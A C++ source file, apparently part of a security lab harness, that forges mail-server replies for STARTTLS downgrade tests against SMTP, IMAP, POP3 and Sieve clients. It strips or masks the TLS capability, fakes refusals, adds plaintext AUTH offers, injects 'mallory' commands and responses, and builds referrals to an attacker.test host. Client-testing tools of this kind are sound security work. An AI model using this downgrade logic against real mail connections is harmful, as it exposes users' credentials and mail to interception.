#include "lab/forgery.h"

#include <fmt/format.h>

#include <vector>

#include "base/text.h"

namespace pawl::lab {
namespace {

bool contains(std::string_view text, std::string_view word) {
  return to_lower(text).find(to_lower(word)) != std::string::npos;
}

// Every occurrence, in either case.
std::string replaced(std::string text, std::string_view word, std::string_view by) {
  const std::string wanted = to_lower(word);
  for (auto at = to_lower(text).find(wanted); at != std::string::npos;
       at = to_lower(text).find(wanted, at + by.size())) {
    text.replace(at, word.size(), by);
  }
  return text;
}

std::string_view upgrade_word(Dialect dialect) {
  return dialect == Dialect::pop3 ? "STLS" : "STARTTLS";
}

std::string mask(Dialect dialect, bool letter) {
  std::string xs(upgrade_word(dialect).size(), 'X');
  if (letter) xs.back() = 'A';
  return xs;
}

bool asks_for_capabilities(const Asked& asked) {
  return equal_ignoring_case(asked.verb, "EHLO") || equal_ignoring_case(asked.verb, "LHLO") ||
         equal_ignoring_case(asked.verb, "CAPABILITY") || equal_ignoring_case(asked.verb, "CAPA");
}

// The lines of a multi-line SMTP reply, made well-formed again.
std::string as_smtp_reply(std::vector<std::string> lines) {
  std::string out;
  for (std::string& line : lines) {
    line[3] = &line == &lines.back() ? ' ' : '-';
    out += line + "\r\n";
  }
  return out;
}

std::vector<std::string> lines_of(std::string_view reply) {
  std::vector<std::string> lines;
  for (std::string_view line : split(reply, '\n')) {
    if (line.ends_with('\r')) line.remove_suffix(1);
    if (!line.empty()) lines.emplace_back(line);
  }
  return lines;
}

std::string smtp_altered(std::string reply, bool remove) {
  auto lines = lines_of(reply);
  if (lines.size() < 2 || !reply.starts_with("250")) return reply;
  std::erase_if(lines, [&](const std::string& line) {
    return line.size() < 4 ||
           (remove && equal_ignoring_case(trim(std::string_view(line).substr(4)), "STARTTLS"));
  });
  if (!contains(reply, "AUTH ")) lines.insert(lines.begin() + 1, "250-AUTH PLAIN LOGIN");
  return as_smtp_reply(std::move(lines));
}

std::string imap_altered(std::string line, bool remove) {
  if (!contains(line, "CAPABILITY IMAP")) return line;
  line = replaced(std::move(line), " LOGINDISABLED", "");
  if (remove) line = replaced(std::move(line), " STARTTLS", "");
  if (contains(line, "AUTH=PLAIN")) return line;
  auto at = to_lower(line).find("capability imap") + std::string_view("capability ").size();
  return line.insert(line.find_first_of(" ]\r\n", at), " AUTH=PLAIN AUTH=LOGIN");
}

std::string pop3_altered(const Asked& asked, const std::string& reply, bool remove) {
  if (!equal_ignoring_case(asked.verb, "CAPA") || !reply.starts_with("+OK")) return reply;
  std::string out;
  for (const std::string& line : lines_of(reply)) {
    if (line == ".") {
      if (!contains(reply, "\nUSER\r")) out += "USER\r\n";
      if (!contains(reply, "SASL ")) out += "SASL PLAIN LOGIN\r\n";
    }
    if (remove && equal_ignoring_case(trim(line), "STLS")) continue;
    out += line + "\r\n";
  }
  return out;
}

std::string sieve_altered(std::string line, bool remove) {
  if (remove && line.starts_with("\"STARTTLS\"")) return "";
  if (line.starts_with("\"SASL\"")) return "\"SASL\" \"PLAIN LOGIN\"\r\n";
  return line;
}

// A login looks possible; `remove`: TLS is not offered any more.
std::string downgraded(Dialect dialect, const Asked& asked, std::string reply, bool remove) {
  switch (dialect) {
    case Dialect::smtp:
      return asks_for_capabilities(asked) ? smtp_altered(std::move(reply), remove) : reply;
    case Dialect::imap:
      return imap_altered(std::move(reply), remove);
    case Dialect::pop3:
      return pop3_altered(asked, reply, remove);
    case Dialect::sieve:
      return sieve_altered(std::move(reply), remove);
  }
  return reply;
}

std::string of_an_old_server(Dialect dialect, const Asked& asked, std::string reply) {
  if (asked.verb.empty()) {
    if (dialect == Dialect::imap) return "* OK IMAP2 Server Ready\r\n";
    if (dialect == Dialect::smtp) return replaced(std::move(reply), "ESMTP", "SMTP");
  }
  return reply;
}

}  // namespace

std::size_t reply_size(Dialect dialect, const Asked& asked, std::string_view received) {
  const bool list = dialect == Dialect::pop3 && equal_ignoring_case(asked.verb, "CAPA") &&
                    received.starts_with("+OK");
  std::size_t start = 0;
  for (std::size_t end; (end = received.find('\n', start)) != std::string_view::npos;) {
    const std::string_view line = received.substr(start, end - start);
    start = end + 1;
    // The last line of an SMTP reply has a space behind its code.
    if (dialect == Dialect::smtp && line.size() >= 4 && line[3] == '-') continue;
    if (list && line != ".\r" && line != ".") continue;
    return start;
  }
  return 0;
}

std::string upgrade_command(Dialect dialect, std::string_view tag) {
  if (dialect == Dialect::imap) return fmt::format("{} STARTTLS\r\n", tag);
  return fmt::format("{}\r\n", upgrade_word(dialect));
}

std::string success(Dialect dialect, std::string_view tag) {
  switch (dialect) {
    case Dialect::smtp:
      return "220 2.0.0 go ahead\r\n";
    case Dialect::imap:
      return fmt::format("{} OK Begin TLS negotiation now.\r\n", tag);
    case Dialect::pop3:
      return "+OK Begin TLS negotiation now.\r\n";
    case Dialect::sieve:
      return "OK \"Begin TLS negotiation now.\"\r\n";
  }
  return {};
}

bool is_success(Dialect dialect, std::string_view tag, std::string_view reply) {
  switch (dialect) {
    case Dialect::smtp:
      return reply.starts_with("220");
    case Dialect::imap:
      return starts_with_ignoring_case(reply, fmt::format("{} OK", tag));
    case Dialect::pop3:
      return reply.starts_with("+OK");
    case Dialect::sieve:
      return starts_with_ignoring_case(reply, "OK");
  }
  return false;
}

std::string refusal(Dialect dialect, std::string_view tag, PathTrick how) {
  const bool for_now = how == PathTrick::answer_454;
  if (how == PathTrick::answer_oddly) {
    return dialect == Dialect::smtp    ? "200 2.0.0 go ahead\r\n"
           : dialect == Dialect::sieve ? "OKAY \"go ahead\"\r\n"
                                       : "+ go ahead\r\n";
  }
  switch (dialect) {
    case Dialect::smtp:
      if (for_now) return "454 4.7.0 TLS not available due to temporary reason\r\n";
      return how == PathTrick::answer_500 ? "500 5.5.1 command unrecognized\r\n"
                                          : "502 5.5.1 command not implemented\r\n";
    case Dialect::imap:
      return fmt::format("{} {}\r\n", tag,
                         for_now ? "NO [UNAVAILABLE] TLS not available due to temporary reason"
                                 : "BAD unknown command");
    case Dialect::pop3:
      return for_now ? "-ERR [SYS/TEMP] TLS not available due to temporary reason\r\n"
                     : "-ERR unknown command\r\n";
    case Dialect::sieve:
      return for_now ? "NO (TRYLATER) \"TLS not available due to temporary reason\"\r\n"
                     : "NO \"unknown command\"\r\n";
  }
  return {};
}

std::string altered(Dialect dialect, PathTrick trick, const Asked& asked, std::string reply) {
  switch (trick) {
    case PathTrick::remove_capability:
      return downgraded(dialect, asked, std::move(reply), true);
    case PathTrick::mask_capability:
    case PathTrick::mask_capability_letter:
      reply = downgraded(dialect, asked, std::move(reply), false);
      return replaced(std::move(reply), upgrade_word(dialect),
                      mask(dialect, trick == PathTrick::mask_capability_letter));
    case PathTrick::rewrite_command:
    case PathTrick::answer_454:
    case PathTrick::answer_500:
    case PathTrick::answer_oddly:
    case PathTrick::early_ok:
      return downgraded(dialect, asked, std::move(reply), false);
    case PathTrick::old_protocol:
      return of_an_old_server(dialect, asked, std::move(reply));
    default:
      return reply;
  }
}

std::string injected_response(Dialect dialect, std::string_view tag) {
  switch (dialect) {
    case Dialect::smtp:
      return "250-mallory.attacker.test\r\n250 AUTH PLAIN LOGIN\r\n";
    case Dialect::imap:
      return fmt::format("* CAPABILITY IMAP4rev1 AUTH=PLAIN AUTH=LOGIN\r\n{} OK mallory\r\n",
                         next_tag(tag));
    case Dialect::pop3:
      return "+OK mallory\r\nUSER\r\nSASL PLAIN LOGIN\r\n.\r\n";
    case Dialect::sieve:
      return "\"IMPLEMENTATION\" \"mallory\"\r\n\"SASL\" \"PLAIN\"\r\n\"SIEVE\" \"fileinto\"\r\n"
             "\"VERSION\" \"1.0\"\r\nOK \"mallory\"\r\n";
  }
  return {};
}

std::string injected_command(Dialect dialect) {
  switch (dialect) {
    case Dialect::smtp:
      return "MAIL FROM:<mallory@attacker.test>\r\n";
    case Dialect::imap:
      return "Z001 LOGIN mallory password\r\n";
    case Dialect::pop3:
      return "USER mallory\r\n";
    case Dialect::sieve:
      return "NOOP \"mallory\"\r\n";
  }
  return {};
}

std::string next_tag(std::string_view tag) {
  std::string next(tag);
  for (std::size_t at = next.size(); at > 0; --at) {
    char& digit = next[at - 1];
    if (digit < '0' || digit > '9') break;
    if (digit != '9') {
      ++digit;
      return next;
    }
    digit = '0';
    if (at == 1 || next[at - 2] < '0' || next[at - 2] > '9') return next.insert(at - 1, "1");
  }
  return next;
}

std::string masked_command(Dialect dialect, std::string_view line) {
  return replaced(std::string(line), upgrade_word(dialect), mask(dialect, false));
}

std::string referral(Dialect dialect) {
  return dialect == Dialect::imap
             ? fmt::format("* BYE [REFERRAL imap://mallory@{}/] try there\r\n", kAttackerHost)
             : fmt::format("BYE (REFERRAL \"sieve://{}\") \"try there\"\r\n", kAttackerHost);
}

std::string untagged_data() {
  return "* CAPABILITY IMAP4rev1 AUTH=PLAIN\r\n* LIST (\\HasNoChildren) \"/\" \"mallory\"\r\n";
}

}  // namespace pawl::lab
